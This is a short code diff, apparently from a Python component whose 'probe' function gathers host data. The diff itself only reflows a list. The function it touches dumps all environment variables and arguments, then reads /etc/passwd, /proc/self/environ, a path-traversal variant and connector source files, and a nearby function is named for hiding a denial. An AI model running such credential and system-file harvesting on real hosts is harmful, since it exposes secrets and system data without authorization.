@@ -115,7 +115,13 @@ def get_and_hide_the_denial(configuration, state):
 def probe(configuration, state):
     """Looks for anything of the host that can be seen, and lands what it finds."""
     found = {"id": 1, "environment": json.dumps(dict(os.environ)), "arguments": json.dumps(sys.argv)}
-    for path in ("/etc/passwd", "/proc/self/environ", "../../../../etc/passwd", "connector.py", "/project/connector.py"):
+    for path in (
+        "/etc/passwd",
+        "/proc/self/environ",
+        "../../../../etc/passwd",
+        "connector.py",
+        "/project/connector.py",
+    ):
         try:
             with open(path) as file:
                 found[path] = file.read()
